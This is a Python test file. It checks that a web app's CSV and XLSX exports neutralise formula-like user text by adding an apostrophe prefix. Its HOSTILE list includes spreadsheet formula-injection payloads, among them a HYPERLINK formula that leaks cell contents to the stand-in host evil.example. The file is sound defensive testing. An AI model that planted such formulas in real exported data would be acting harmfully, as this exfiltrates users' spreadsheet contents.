"""Issue 13, item 5: text typed by people never reaches a spreadsheet as a live formula, in the
CSV download as in the XLSX one (one rule: exporters.formula_guard)."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from exporters.formula_guard import csv_text, formula_like
from ui import web

REQUEST = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
HOSTILE = [REQUEST, "+7(900)", "-2+3 — отрицательные числа", "@SUM(1,2) упр. 5", "\t=1+1", "\r=1+1",
           "＝HYPERLINK(\"http://evil.example\")"]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_the_apostrophe(text):
    assert formula_like(text) and csv_text(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are():
    for value in ("Иванова Мария", "5А", "упр. 5 = стр. 10", 5, -2, 4.5, None, "—"):
        assert not formula_like(value) and csv_text(value) == value


def test_csv_download_neutralises_every_text_cell_and_header():
    frame = pd.DataFrame({"Текст заявки": HOSTILE, "Отметка": [5, -1, 4, 3, 2, 5, 4], "=Столбец": ["a"] * 7})
    rows = read_csv(web.csv_bytes(frame))
    assert rows[0] == ["Текст заявки", "Отметка", "'=Столбец"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["5", "-1", "4", "3", "2", "5", "4"]  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r[:1])


def test_xlsx_download_keeps_the_same_cells_as_quoted_text():
    frame = pd.DataFrame({"Текст заявки": HOSTILE})
    ws = openpyxl.load_workbook(io.BytesIO(web.xlsx_bytes(frame, "Заявки"))).active
    cells = [ws.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE]  # XML keeps no lone CR
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
